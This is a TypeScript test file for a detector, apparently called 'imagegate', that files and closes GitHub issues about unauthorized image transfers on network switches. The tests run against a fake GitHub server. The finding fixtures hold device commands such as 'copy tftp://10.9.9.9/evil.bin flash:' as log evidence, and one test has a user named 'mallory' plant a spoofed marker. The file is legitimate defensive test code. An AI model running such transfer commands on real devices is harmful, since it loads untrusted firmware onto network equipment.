import { startFakeGitHub, type FakeGitHub } from '../../test/support/fake-github.js';
import { ATTACK, type Finding } from '../model/finding.js';
import { issueItem, resolvedComment } from '../report/issue-body.js';
import { createOctokit, type GitHubClient } from './client.js';
import { syncFindingIssues, type IssueSyncOptions, type WindowVerdict } from './issues.js';

const repo = { owner: 'acme', repo: 'network' };
let fake: FakeGitHub;
let gh: GitHubClient;
beforeEach(async () => {
  fake = await startFakeGitHub();
  fake.repo('acme/network');
  gh = createOctokit({ token: fake.token, baseUrl: fake.url, noWait: true });
});
afterEach(async () => {
  await fake.close();
});

function finding(n: number, raw = 'copy tftp://10.9.9.9/evil.bin flash:'): Finding {
  return {
    rule: 'unauthorized-transfer',
    severity: 'high',
    device: `fra1-acc-0${n}`,
    summary: `fra1-acc-0${n}: image transfer outside any approved change`,
    reasons: ['no authorization'],
    evidence: [{ kind: 'log', path: '/var/log/fra1.log', line: n, ts: '2026-12-05T05:00:00.000Z', raw, clock: 'synced' }],
    authorization: null,
    attack: ATTACK,
    clock: 'synced',
    fingerprint: String(n).repeat(64),
  };
}

const writes = (): string[] => fake.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.route ?? r.path}`);

async function sync(findings: Finding[], over: Partial<IssueSyncOptions> = {}) {
  const at = '2026-12-05T08:00:00.000Z';
  fake.requests.length = 0;
  return syncFindingIssues({
    client: gh,
    repo,
    items: findings.map((f) => issueItem(f, at)),
    unverifiedDevices: [],
    windows: [],
    resolvedComment: resolvedComment(at),
    viewer: 'imagegate-bot',
    writeIntervalMs: 0,
    ...over,
  });
}

test('one issue per fingerprint; a second run with the same findings makes no new issue and no new comment', async () => {
  const first = await sync([finding(1), finding(2)]);
  expect(first.created).toHaveLength(2);
  const issue = fake.repo('acme/network').issues.get(first.created[0] ?? 0);
  expect(issue?.labels.sort()).toEqual(['imagegate', 'severity:high', 'unauthorized-transfer']);
  expect(issue?.body?.startsWith(`<!-- imagegate:finding:${'1'.repeat(64)} -->`)).toBe(true);
  const second = await sync([finding(1), finding(2)]);
  expect(second).toMatchObject({ created: [], updated: [], closed: [], comments: 0, unchanged: 2 });
  expect(writes()).toEqual([]);
  expect(fake.violations).toEqual([]);
});

test('new evidence edits the body and adds one comment; a finding that is gone closes its issue', async () => {
  const first = await sync([finding(1), finding(2)]);
  const r = await sync([finding(1, 'copy tftp://10.9.9.9/evil2.bin flash:')]);
  expect(r.updated).toEqual([first.created[0]]);
  expect(r.closed).toEqual([first.created[1]]);
  expect(writes().sort()).toEqual([
    'PATCH /repos/{owner}/{repo}/issues/{issue_number}',
    'PATCH /repos/{owner}/{repo}/issues/{issue_number}',
    'POST /repos/{owner}/{repo}/issues/{issue_number}/comments',
    'POST /repos/{owner}/{repo}/issues/{issue_number}/comments',
  ]);
  const closed = fake.repo('acme/network').issues.get(first.created[1] ?? 0);
  expect([closed?.state, closed?.stateReason]).toEqual(['closed', 'completed']);
  expect(fake.violations).toEqual([]);
});

test('an issue closed as not planned suppresses its fingerprint until the evidence changes', async () => {
  const first = await sync([finding(1)]);
  const n = first.created[0] ?? 0;
  await gh.rest.issues.update({ ...repo, issue_number: n, state: 'closed', state_reason: 'not_planned' });
  const again = await sync([finding(1)]);
  expect(again.suppressed).toEqual(['1'.repeat(64)]);
  expect(writes()).toEqual([]);
  const changed = await sync([finding(1, 'copy tftp://10.9.9.9/other.bin flash:')]);
  expect(changed.reopened).toEqual([n]);
  expect(fake.repo('acme/network').issues.get(n)?.state).toBe('open');
  expect(fake.violations).toEqual([]);
});

test('issues of unverified devices stay open: not seeing a finding there proves nothing', async () => {
  await sync([finding(1)]);
  const r = await sync([], { unverifiedDevices: ['FRA1-ACC-01'] });
  expect(r.closed).toEqual([]);
});

test('a marker planted in an issue a person opened is ignored', async () => {
  fake.addToken('tok-mallory', { login: 'mallory' });
  const mallory = createOctokit({ token: 'tok-mallory', baseUrl: fake.url, noWait: true });
  const planted = issueItem(finding(1), 'x');
  const theirs = await mallory.rest.issues.create({ ...repo, title: 'mine', body: planted.body, labels: ['imagegate'] });
  const r = await sync([finding(1)]);
  expect(r.created).toHaveLength(1);
  expect(r.created[0]).not.toBe(theirs.data.number);
  expect(fake.repo('acme/network').issues.get(theirs.data.number)?.body).toBe(planted.body);
});

test('the tracking issue of a closed window gets the verification result and is closed', async () => {
  const commit = 'abcdef1234567890abcdef1234567890abcdef12';
  const t = await gh.rest.issues.create({ ...repo, title: 'Change window CHG-1001', body: `<!-- imagegate:window:${commit}:fra1-acc-01 -->\nwindow`, labels: ['change-window'] });
  const other = await gh.rest.issues.create({ ...repo, title: 'Change window CHG-2', body: `<!-- imagegate:window:${'9'.repeat(40)}:nyc1-core-01 -->`, labels: ['change-window'] });
  const windows: WindowVerdict[] = [{ commit, device: 'fra1-acc-01', ok: true, comment: 'Completed as approved' }];
  const r = await sync([], { windows });
  expect(r.windowsClosed).toEqual([t.data.number]);
  expect(fake.repo('acme/network').issues.get(other.data.number)?.state).toBe('open');
  const comments = [...fake.repo('acme/network').comments.values()].filter((c) => c.issueNumber === t.data.number);
  expect(comments.map((c) => c.body)).toEqual(['Completed as approved']);
  const again = await sync([], { windows });
  expect(again.windowsClosed).toEqual([]);
  expect(fake.violations).toEqual([]);
});

test('writes are serial and paced; a rate-limited write is retried after retry-after', async () => {
  const sleeps: number[] = [];
  let clock = 0;
  fake.failNext(1, 403, { 'retry-after': '1' }, { match: /^POST / });
  const r = await sync([finding(1), finding(2), finding(3)], {
    writeIntervalMs: 750,
    now: () => clock,
    sleep: async (ms) => {
      sleeps.push(ms);
      clock += ms;
    },
  });
  expect(r.created).toHaveLength(3);
  expect(sleeps).toEqual([750, 750]);
  expect(fake.requests.filter((q) => q.injected)).toHaveLength(1);
  expect(fake.repo('acme/network').issues.size).toBe(3);
});
